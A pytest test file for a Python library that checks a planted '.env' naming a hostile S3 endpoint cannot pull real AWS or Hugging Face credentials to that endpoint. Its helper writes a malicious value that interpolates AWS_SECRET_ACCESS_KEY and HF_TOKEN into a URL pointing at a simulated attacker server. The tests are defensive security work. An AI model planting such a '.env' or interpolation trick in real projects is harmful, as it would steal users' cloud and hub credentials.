"""`.env` files and stores that others may have planted: whose count, where they are looked for, what they may do."""

from __future__ import annotations

import logging
import pickle
from collections.abc import Callable, Iterator
from pathlib import Path

import datasets
import pytest

import hf_localize
from hf_localize import errors, settings
from hf_localize.sources.session import current_session
from tests.conftest import Desk, run_cli, run_python
from tests.rig.s3_proxy import RecordingProxy

KEY, SECRET, TOKEN = "AKIAELSEWHERE01", "elsewhereSECRET02", "elsewhereTOKEN03"
HUB_TOKEN = "hf_elsewhere04"


@pytest.fixture(autouse=True)
def _nothing_was_said(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(settings, "_noted", set())


# --- credentials stay at home ----------------------------------------------------------------


@pytest.fixture
def evil(desk: Desk) -> Iterator[RecordingProxy]:
    """Return a stranger's server, which records, and answers as a real one (it takes any key)."""
    with RecordingProxy(desk.server.endpoint_url) as server:
        yield server


def plant(desk: Desk, monkeypatch: pytest.MonkeyPatch, evil: RecordingProxy, *lines: str) -> None:
    """Plant a `.env` that names *evil*, in the working folder of somebody with no settings of his own."""
    desk.outsider()
    for name in ("HGLOC_S3_ENDPOINT_URL", "HGLOC_S3_BUCKET_NAME"):
        monkeypatch.delenv(name)
    mine = (f"HGLOC_S3_ENDPOINT_URL={evil.url}", f"HGLOC_S3_BUCKET_NAME={desk.bucket}")
    public = f"HGLOC_PUBLIC_URL={evil.url}/${{AWS_SECRET_ACCESS_KEY}}/${{HF_TOKEN}}"
    Path(".env").write_text("\n".join((*mine, public, "HGLOC_WRITE_BACK=s3", *lines)))


def use(origin: str, desk: Desk, monkeypatch: pytest.MonkeyPatch) -> dict[str, str]:
    """Put credentials where *origin* says; return the arguments of ``install()``."""
    monkeypatch.setenv("HF_TOKEN", HUB_TOKEN)
    ours = {"aws_access_key_id": KEY, "aws_secret_access_key": SECRET, "aws_session_token": TOKEN}
    if origin == "arguments":
        return ours
    if origin == "profile":
        lines = "\n".join(f"{name} = {value}" for name, value in ours.items())
        (desk.folder / "credentials").write_text(f"[default]\n{lines}\n")
        monkeypatch.setenv("AWS_SHARED_CREDENTIALS_FILE", str(desk.folder / "credentials"))
    else:
        prefix = "HGLOC_" if origin == "ours" else ""
        for name, value in ours.items():
            monkeypatch.setenv(f"{prefix}{name.upper()}", value)
    return {}


def carried(server: RecordingProxy) -> list[str]:
    """Return what of the requests to *server* is signed, or holds a credential from elsewhere."""
    shown = [f"{r.method} {r.path} {dict(r.query)} {dict(r.headers)}" for r in server.requests]
    signs = ("authorization", "x-amz-security-token", "x-amz-signature", KEY, SECRET, TOKEN, HUB_TOKEN)
    return [text for text in shown if any(sign.lower() in text.lower() for sign in signs)]


def work(arguments: dict[str, str]) -> None:
    """Do what asks the bucket and the public files, in whatever it may end."""
    with hf_localize.installed(**arguments):
        tries: tuple[Callable[[], object], ...] = (
            lambda: datasets.load_dataset("org/none"),
            lambda: hf_localize.register_dataset(datasets.Dataset.from_dict({"a": [1]}), "org/x"),
            lambda: hf_localize.sync_local_dataset_to_s3("org/x", make_public=True),
            hf_localize.list_s3_datasets,
            hf_localize.list_public_datasets,
            lambda: current_session().bucket.get("key"),
            lambda: current_session().bucket.list_folder(""),
            hf_localize.diagnose,
        )
        for act in tries:
            try:
                act()
            except (errors.HfLocalizeError, datasets.exceptions.DatasetNotFoundError):
                continue


@pytest.mark.sampled(1)
@pytest.mark.parametrize("origin", ["ours", "aws", "profile", "arguments"])
def test_an_endpoint_that_a_dotenv_names_gets_no_credential_from_elsewhere(
    origin: str,
    desk: Desk,
    evil: RecordingProxy,
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
) -> None:
    plant(desk, monkeypatch, evil)
    arguments = use(origin, desk, monkeypatch)
    work(arguments)
    assert carried(evil) == []
    assert evil.requests, "it was not asked at all, not even as by an outsider"
    warnings = [entry.getMessage() for entry in caplog.records if entry.levelno == logging.WARNING]
    (said,) = [text for text in warnings if "set HGLOC_S3_ENDPOINT_URL in the environment" in text]
    assert evil.url in said
    if not arguments:
        for command in (["list-s3"], ["list-public"], ["download", "org/none"], ["doctor"]):
            assert SECRET not in run_cli(*command).stderr
        assert carried(evil) == []
        assert "keys from elsewhere are not sent" in run_cli("doctor").stdout
        ran = run_cli("sync-local-to-s3", "org/x", HGLOC_S3_ENDPOINT_URL=evil.url)
        assert ran.returncode == (4 if desk.server.enforces_auth else 0), ran.stderr
        assert carried(evil), "credentials are not sent to an endpoint of the environment"


def test_keys_that_stand_beside_the_endpoint_in_a_dotenv_are_used_in_place_of_others(
    desk: Desk, evil: RecordingProxy, monkeypatch: pytest.MonkeyPatch
) -> None:
    keys = ("HGLOC_AWS_ACCESS_KEY_ID=AKIAOWN", f"HGLOC_AWS_SECRET_ACCESS_KEY={desk.server.secret_key}")
    plant(desk, monkeypatch, evil, *keys)
    for origin in ("ours", "aws"):
        use(origin, desk, monkeypatch)
    work({})
    signed = [r.headers["authorization"] for r in evil.requests if "authorization" in r.headers]
    assert signed
    assert all("Credential=AKIAOWN/" in header for header in signed)
    assert not [text for text in carried(evil) if KEY in text or TOKEN in text]


def test_a_stream_that_goes_to_another_process_does_not_take_that_ones_credentials_to_the_endpoint(
    desk: Desk, evil: RecordingProxy, monkeypatch: pytest.MonkeyPatch
) -> None:
    keys = (f"HGLOC_AWS_{name}={desk.server.access_key}" for name in ("ACCESS_KEY_ID", "SECRET_ACCESS_KEY"))
    plant(desk, monkeypatch, evil, *keys)
    data = pickle.dumps(current_session().bucket)
    (desk.folder / "elsewhere").mkdir()
    (desk.folder / "bucket.pickle").write_bytes(data)
    use("ours", desk, monkeypatch)
    code = (
        "import pickle, sys; bucket = pickle.load(open(sys.argv[1] if sys.argv[1:] else '../bucket.pickle', 'rb'))\n"
        "for ask in (lambda: bucket.get('k'), lambda: bucket.list_folder('')):\n"
        "    try: ask()\n"
        "    except Exception as exc: print(type(exc).__name__)\n"
    )
    ran = run_python(code, cwd=desk.folder / "elsewhere")
    assert ran.stdout.split() == ["AccessDeniedError", "AccessDeniedError"], ran.stderr
    assert carried(evil) == []


# --- a record is appended to records only ----------------------------------------------------


# --- paths, and the default store ------------------------------------------------------------
